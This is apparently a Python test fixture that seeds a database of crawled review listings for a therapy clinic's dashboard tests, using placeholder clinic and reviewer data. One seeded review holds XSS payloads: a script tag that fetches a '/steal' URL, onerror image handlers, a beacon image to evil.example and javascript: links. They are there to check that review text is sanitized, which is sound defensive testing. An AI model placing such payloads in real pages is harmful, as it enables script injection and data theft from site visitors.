"""A small, real store for the dashboard tests, written through store.crud."""

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from store import audit, crud, runs
from store.db import make_engine, session_scope
from store.models import CrawlRun, ListingStatus

NOW = datetime.now(UTC).replace(microsecond=0)
RUN1_AT = NOW - timedelta(days=40)
RUN2_AT = NOW - timedelta(hours=2)

CLINIC = {
    "key": "allura",
    "name": "Allura Sex Therapy Centre",
    "street_address": "#200-1234 Example Street",
    "city": "Vancouver",
    "province": "BC",
    "postal_code": "V6B 1A1",
    "country": "CA",
    "phone": "604-555-0100",
    "website": "https://allura.example/",
}

INJECTED_TEXT = (
    "Great <script>window.__pwned = 1; fetch('http://127.0.0.2:9/steal')</script> session. "
    '<img src="http://127.0.0.2:9/pixel.png" onerror="window.__pwned=2"> '
    '<img src="http://evil.example/beacon.gif"> '
    "![tracker](http://127.0.0.2:9/x.png) "
    "[click me](javascript:window.__pwned=3) "
    '<a href="javascript:window.__pwned=4">link</a> **bold**'
)

CONFIG_TOML = """
[clinic]
name = "Allura Sex Therapy Centre"
slug = "allura"
street_address = "#200-1234 Example Street"
city = "Vancouver"
province = "BC"
postal_code = "V6B 1A1"
phone = "604-555-0100"
website = "https://allura.example/"

[[sources]]
site = "yelp"
url = "https://www.yelp.example/biz/allura"

[crawl]
interval_hours = 24

[dashboard]
reviewer_names = "{names}"
cache_ttl_seconds = 0
"""


@dataclass
class Seeded:
    clinic_id: int
    listings: dict[str, int] = field(default_factory=dict)
    reviews: dict[str, int] = field(default_factory=dict)
    runs: dict[str, int] = field(default_factory=dict)


def _review(rid: str, author: str, rating: float, text: str, days_ago: int, **extra) -> dict:
    return {
        "site_review_id": rid,
        "author": author,
        "rating": rating,
        "best_rating": 5,
        "published_at": NOW - timedelta(days=days_ago),
        "published_precision": "day",
        "published_raw": (NOW - timedelta(days=days_ago)).date().isoformat(),
        "text": text,
        **extra,
    }


def seed(url: str) -> Seeded:
    """Two crawls of three listings, with edits, a removal, an owner response, findings,
    an injected review, a failing and a stale source, a degraded run, a discovered listing."""
    engine = make_engine(url)
    out = Seeded(clinic_id=0)
    try:
        with session_scope(engine) as s:
            clinic_id = crud.ensure_clinic(s, **CLINIC)
            out.clinic_id = clinic_id
            yelp = crud.ensure_listing(
                s, clinic_id=clinic_id, site="yelp", url="https://www.yelp.example/biz/allura"
            )
            hg = crud.ensure_listing(
                s,
                clinic_id=clinic_id,
                site="healthgrades",
                url="https://www.healthgrades.example/allura",
            )
            google = crud.ensure_listing(
                s, clinic_id=clinic_id, site="google", url="https://maps.google.example/?cid=1"
            )
            out.listings = {"yelp": yelp, "healthgrades": hg, "google": google}
            out.listings["discovered"] = crud.record_discovered(
                s,
                clinic_id=clinic_id,
                site="ratemds",
                url="https://www.ratemds.example/allura",
                match_reason="same phone number",
            )
            gone = crud.record_discovered(
                s, clinic_id=clinic_id, site="yahoo", url="https://local.yahoo.example/other"
            )
            crud.decide_listing(s, clinic_id=clinic_id, listing_id=gone, decision="dismissed")

            run1 = runs.start_run(s, clinic_id=clinic_id, spider="schema_org")
            s.get(CrawlRun, run1).started_at = RUN1_AT
            out.runs["first"] = run1
            crud.record_facts(
                s,
                listing_id=yelp,
                seen_at=RUN1_AT,
                run_id=run1,
                facts={
                    "name": "Allura Sex Therapy Centre",
                    "street_address": "1234 Example St, Suite 200",
                    "locality": "Vancouver",
                    "region": "British Columbia",
                    "postal_code": "V6B1A1",
                    "phone": "(604) 555-0100",
                    "website": "http://www.allura.example",
                    "rating": 4.5,
                    "review_count": 3,
                },
            )
            crud.record_facts(
                s,
                listing_id=hg,
                seen_at=RUN1_AT,
                run_id=run1,
                facts={
                    "name": "Allura Sex Therapy Center",
                    "street_address": "1234 Example St",
                    "locality": "Vancouver",
                    "phone": "+1 604 555 0199",
                    "website": "https://allura-therapy.example",
                    "rating": 3.0,
                    "review_count": 1,
                },
            )
            crud.record_facts(
                s,
                listing_id=google,
                seen_at=RUN1_AT,
                run_id=run1,
                facts={
                    "name": "Allura Sex Therapy Centre",
                    "phone": "604.555.0100",
                    "rating": 5.0,
                    "review_count": 1,
                },
            )
            r1 = crud.upsert_reviews(
                s,
                listing_id=yelp,
                seen_at=RUN1_AT,
                run_id=run1,
                reviews=[
                    _review("y1", "Jane Q. Doe", 5, "Kind and professional.", 60),
                    _review("y2", "Sam Smith", 2, "Original text before the edit.", 50),
                    _review(
                        "y3",
                        "Alex",
                        4,
                        "This one will be removed.",
                        45,
                        owner_response="Thank you for coming in!",
                    ),
                ],
            )
            crud.upsert_reviews(
                s,
                listing_id=hg,
                seen_at=RUN1_AT,
                run_id=run1,
                reviews=[
                    _review("h1", "Pat Lee", 3, "Average visit.", 55, title="Okay"),
                ],
            )
            crud.upsert_reviews(
                s,
                listing_id=google,
                seen_at=RUN1_AT,
                run_id=run1,
                reviews=[
                    _review("g1", "Morgan", 5, "Helpful.", 48),
                ],
            )
            for listing in (yelp, hg, google):
                runs.record_check(
                    s, run_id=run1, listing_id=listing, status="ok", checked_at=RUN1_AT
                )
                crud.close_listing(s, listing_id=listing, status=ListingStatus.OK, at=RUN1_AT)
            runs.finish_run(
                s, run_id=run1, status="ok", pages=3, items=5, listings_checked=3, new_reviews=5
            )
            s.get(CrawlRun, run1).finished_at = RUN1_AT + timedelta(seconds=42)
            out.reviews = dict(zip(("y1", "y2", "y3"), r1.new, strict=True))

        with session_scope(engine) as s:
            yelp, hg = out.listings["yelp"], out.listings["healthgrades"]
            run2 = runs.start_run(s, clinic_id=out.clinic_id, spider="schema_org")
            s.get(CrawlRun, run2).started_at = RUN2_AT
            out.runs["latest"] = run2
            crud.record_facts(
                s,
                listing_id=yelp,
                seen_at=RUN2_AT,
                run_id=run2,
                facts={
                    "name": "Allura Sex Therapy Centre",
                    "street_address": "1234 Example St, Suite 200",
                    "locality": "Vancouver",
                    "region": "British Columbia",
                    "postal_code": "V6B1A1",
                    "phone": "(604) 555-0111",
                    "website": "http://www.allura.example",
                    "rating": 4.0,
                    "review_count": 4,
                },
            )
            result = crud.upsert_reviews(
                s,
                listing_id=yelp,
                seen_at=RUN2_AT,
                run_id=run2,
                reviews=[
                    _review("y1", "Jane Q. Doe", 5, "Kind and professional.", 60),
                    _review("y2", "Sam Smith", 1, "Edited: much worse now.", 50),
                    _review(
                        "y4",
                        "Evil <b>Hacker</b>",
                        1,
                        INJECTED_TEXT,
                        1,
                        title="![t](http://127.0.0.2:9/title.png)",
                    ),
                ],
            )
            out.reviews["y4"] = result.new[0]
            crud.mark_removed(s, listing_id=yelp, run_id=run2, seen_at=RUN2_AT)
            runs.record_check(
                s,
                run_id=run2,
                listing_id=yelp,
                status="ok",
                checked_at=RUN2_AT,
                complete=True,
            )
            runs.record_check(
                s,
                run_id=run2,
                listing_id=hg,
                status="blocked",
                checked_at=RUN2_AT,
                message="CAPTCHA page",
            )
            runs.record_problem(
                s,
                run_id=run2,
                listing_id=hg,
                url="https://www.healthgrades.example/allura",
                kind="blocked",
                message="the site answered with a CAPTCHA page",
            )
            crud.close_listing(s, listing_id=yelp, status=ListingStatus.OK, at=RUN2_AT)
            crud.close_listing(s, listing_id=hg, status=ListingStatus.BLOCKED, at=RUN2_AT)
            runs.finish_run(
                s,
                run_id=run2,
                status="degraded",
                pages=4,
                items=3,
                listings_checked=2,
                new_reviews=1,
                changed_reviews=1,
                removed_reviews=1,
                errors=1,
                degraded_fields=["yelp:published_at"],
                coverage={"yelp": {"published_at": 0.0}},
            )
            s.get(CrawlRun, run2).finished_at = RUN2_AT + timedelta(seconds=90)
            crud.record_finding(
                s,
                clinic_id=out.clinic_id,
                kind="owner_response",
                dedupe_key="resp-y3",
                run_id=run2,
                listing_id=yelp,
                review_id=out.reviews["y3"],
                excerpt="Thank you for coming in!",
                explanation="A response to a review was found.",
                guidance="Find out who posted it.",
                category="owner_response",
            )
            crud.record_finding(
                s,
                clinic_id=out.clinic_id,
                kind="solicitation",
                dedupe_key="sol-1",
                run_id=run2,
                source_url="https://allura.example/blog",
                excerpt="Please leave us a 5-star review!",
                category="call_to_review",
                rule_id="review_request",
                explanation="Asks readers for reviews.",
            )
            crud.record_finding(
                s,
                clinic_id=out.clinic_id,
                kind="disclosure",
                dedupe_key="disc-1",
                run_id=run2,
                review_id=out.reviews["y1"],
                excerpt="my therapist helped my erectile dysfunction",
                category="health_detail",
                guidance="Use the site's reporting route.",
            )
            audit.append(
                s,
                action_id="reply_to_review",
                rule_set="bcacc",
                rule_version="1.0.0",
                origin="cli",
                clinic_id=out.clinic_id,
                target="review 1",
            )
    finally:
        engine.dispose()
    return out
